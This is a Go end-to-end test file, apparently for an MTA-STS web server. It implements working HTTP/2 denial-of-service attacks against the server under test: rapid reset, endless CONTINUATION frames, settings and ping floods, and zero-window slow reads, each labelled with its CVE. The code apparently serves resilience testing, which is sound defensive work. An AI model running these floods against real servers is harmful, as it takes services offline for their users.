package e2e_test

import (
	"bytes"
	"io"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flood is a connection of HTTP/2 to which frames are written in bulk.
type flood struct {
	*http2.Framer // writes to the buffer
	buf           bytes.Buffer
	out           io.ReadWriter
	stream        uint32 // of the next request
	header        []byte // of a good request, in HPACK
}

// newFlood greets the server in HTTP/2.
func newFlood(a *attacker, settings ...http2.Setting) (*flood, error) {
	c, err := a.shake("h2")
	if err != nil {
		return nil, err
	}
	f := &flood{out: c, stream: 1}
	f.Framer = http2.NewFramer(&f.buf, c)
	f.AllowIllegalWrites = true
	f.buf.WriteString(http2.ClientPreface)
	if err := f.WriteSettings(settings...); err != nil {
		return nil, err
	}
	var header bytes.Buffer
	e := hpack.NewEncoder(&header)
	e.SetMaxDynamicTableSize(0) // so that the same bytes serve all requests
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", a.order.Host}, {":path", "/.well-known/mta-sts.txt"}} {
		if err := e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1], Sensitive: true}); err != nil {
			return nil, err
		}
	}
	f.header = header.Bytes()
	return f, nil
}

// request writes the next request.
func (f *flood) request() (stream uint32, err error) {
	stream, f.stream = f.stream, f.stream+2
	return stream, f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.header, EndStream: true, EndHeaders: true})
}

// send sends what was written.
func (f *flood) send() error {
	_, err := f.buf.WriteTo(f.out)
	return err
}

// repeat writes and sends until the server has had enough, and throws away what it says.
func (f *flood) repeat(a *attacker, write func() error) error {
	a.ready()
	var reader sync.WaitGroup
	reader.Go(func() { _, _ = io.Copy(io.Discard, f.out) }) // ends with the connection
	defer reader.Wait()
	for {
		for f.buf.Len() < 16<<10 {
			if err := write(); err != nil {
				return err
			}
		}
		if err := f.send(); err != nil {
			f.out.(io.Closer).Close()
			return err
		}
	}
}

// idle2 is idle in HTTP/2.
func idle2(a *attacker) error {
	f, err := newFlood(a)
	if err != nil {
		return err
	}
	stream, err := f.request()
	if err != nil {
		return err
	}
	for err = f.send(); err == nil; {
		var frame http2.Frame
		if frame, err = f.ReadFrame(); err == nil && frame.Header().StreamID == stream && frame.Header().Flags.Has(http2.FlagDataEndStream) {
			_ = a.hold()
			<-a.ctx.Done()
			return nil
		}
	}
	return err
}

// rapidReset asks and takes it back, before the answer (CVE-2023-44487).
func rapidReset(a *attacker) error {
	f, err := newFlood(a)
	if err != nil {
		return err
	}
	return f.repeat(a, func() error {
		stream, err := f.request()
		if err != nil {
			return err
		}
		return f.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
}

// continuations sends a header that does not end (CVE-2024-27316).
func continuations(a *attacker) error {
	f, err := newFlood(a)
	if err != nil {
		return err
	}
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.header, EndStream: true}); err != nil {
		return err
	}
	var field bytes.Buffer
	if err := hpack.NewEncoder(&field).WriteField(hpack.HeaderField{Name: "x-more", Value: "more and more", Sensitive: true}); err != nil {
		return err
	}
	return f.repeat(a, func() error { return f.WriteContinuation(1, false, field.Bytes()) })
}

// settingsAndPings has the server acknowledge without end (CVE-2019-9512, CVE-2019-9515).
func settingsAndPings(a *attacker) error {
	f, err := newFlood(a)
	if err != nil {
		return err
	}
	return f.repeat(a, func() error {
		if err := f.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 15}); err != nil {
			return err
		}
		return f.WritePing(false, [8]byte{})
	})
}

// tinyWindows asks for as many answers as one may, and takes each of them byte by byte
// (CVE-2019-9511, CVE-2019-9517).
func tinyWindows(a *attacker) error {
	f, err := newFlood(a, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return err
	}
	var streams []uint32
	for range 4 { // more are refused
		stream, err := f.request()
		if err != nil {
			return err
		}
		streams = append(streams, stream)
	}
	if err := f.send(); err != nil {
		return err
	}
	a.ready()
	for tick := time.NewTicker(time.Second); ; {
		select {
		case <-tick.C:
		case <-a.ctx.Done():
			return nil
		}
		for _, stream := range streams {
			if err := f.WriteWindowUpdate(stream, 1); err != nil {
				return err
			}
		}
		if err := f.send(); err != nil {
			return err
		}
	}
}
